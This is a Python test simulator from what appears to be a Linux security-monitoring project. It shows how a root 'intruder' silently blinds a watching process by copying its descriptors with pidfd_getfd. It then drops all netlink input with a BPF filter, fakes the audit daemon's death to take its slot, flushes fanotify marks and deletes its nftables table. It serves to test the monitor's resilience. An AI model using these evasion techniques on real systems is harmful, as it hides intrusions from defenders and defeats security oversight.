"""What root can do to a watching process without its code: take hold of its descriptors.

Each function blinds a sensor in a way that its owner cannot feel: nothing fails, nothing closes,
there is only silence. As a program (`python -m tests.simulators.intruder PID`) it takes the audit
daemon's slot from a process and holds it until its standard input ends.
"""

from __future__ import annotations

import ctypes
import os
import socket
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from vedette.codec import bpf, netlink, nf_tables, nfnetlink
from vedette.codec.audit_control import NETLINK_AUDIT
from vedette.kernel.netlink_talk import NETLINK_NETFILTER
from vedette.sensors._audit_link import open_socket, register

SYS_PIDFD_GETFD = 438
NOBODY = 0x7FFF0001
"""A netlink port that no socket has."""
FAN_MARK_FLUSH = 0x80
FAN_MARK_FILESYSTEM = 0x100
DROP_ALL = bytes([6, 0, 0, 0, 0, 0, 0, 0])
"""One classic BPF instruction: return 0."""

_libc = ctypes.CDLL(None, use_errno=True)


@contextmanager
def taken(pid: int, name: str) -> Iterator[list[int]]:
    """Our copies of a process's descriptors whose link in /proc begins with a name."""
    copies: list[int] = []
    process = os.pidfd_open(pid)
    try:
        for link in Path(f"/proc/{pid}/fd").iterdir():
            if link.exists() or link.is_symlink():
                target = str(link.readlink())
                if target.startswith(name):
                    copies.append(_copy(process, int(link.name)))
        yield copies
    finally:
        os.close(process)
        for copy in copies:
            os.close(copy)


@contextmanager
def netlink_sockets(pid: int, protocol: int) -> Iterator[list[socket.socket]]:
    """Our copies of a process's netlink sockets of one family."""
    with taken(pid, "socket:") as copies:
        sockets = [socket.socket(fileno=os.dup(copy)) for copy in copies]
        try:
            yield [
                one for one in sockets
                if (one.family, one.proto) == (socket.AF_NETLINK, protocol)
            ]  # fmt: skip
        finally:
            for one in sockets:
                one.close()


def silence(sockets: list[socket.socket]) -> None:
    """Have the kernel drop all that these sockets would receive."""
    for one in sockets:
        program = ctypes.create_string_buffer(DROP_ALL)
        option = (1).to_bytes(8, sys.byteorder) + ctypes.addressof(program).to_bytes(
            8, sys.byteorder
        )
        one.setsockopt(socket.SOL_SOCKET, bpf.SO_ATTACH_FILTER, option)


def free_audit_slot(pid: int) -> None:
    """Make the kernel believe that the audit daemon is gone.

    A netlink socket that is connected to somebody else refuses what the kernel sends, which is
    how the kernel notices a dead daemon (audit_replace).
    """
    with netlink_sockets(pid, NETLINK_AUDIT) as sockets:
        for one in sockets:
            one.connect((NOBODY, 0))


def flush_marks(pid: int) -> None:
    """Take all file system marks out of a process's fanotify groups."""
    with taken(pid, "anon_inode:[fanotify]") as groups:
        for group in groups:
            flags = FAN_MARK_FLUSH | FAN_MARK_FILESYSTEM
            if _libc.fanotify_mark(group, flags, ctypes.c_uint64(0), -100, b"/") < 0:
                raise OSError(ctypes.get_errno(), "fanotify_mark")


def delete_table(pid: int, name: str = "vedette") -> None:
    """Delete the nft table through the socket that owns it, the only one the kernel lets."""
    with netlink_sockets(pid, NETLINK_NETFILTER) as sockets:
        for one in sockets:
            requests = nf_tables.delete(name)
            subsystem = nfnetlink.NFNL_SUBSYS_NFTABLES
            one.send(nfnetlink.batch(subsystem, requests, sequence=1).data)
            try:
                answer = one.recv(1 << 16)
            except BlockingIOError:
                continue  # its filter lets only events through
            numbers = [netlink.error_number(m.payload) for m in netlink.messages(answer)]
            if not any(numbers):
                return
    raise AssertionError("no socket of the process may delete the table")


def _copy(process: int, descriptor: int) -> int:
    copy = _libc.syscall(SYS_PIDFD_GETFD, process, descriptor, 0)
    if copy < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return int(copy)


def main(pid: int) -> None:
    """Take the audit slot from a process, say so, and hold it."""
    free_audit_slot(pid)
    link = open_socket()
    register(link, os.getpid())
    print("taken", flush=True)  # noqa: T201 - read by the test
    sys.stdin.read()


if __name__ == "__main__":
    main(int(sys.argv[1]))
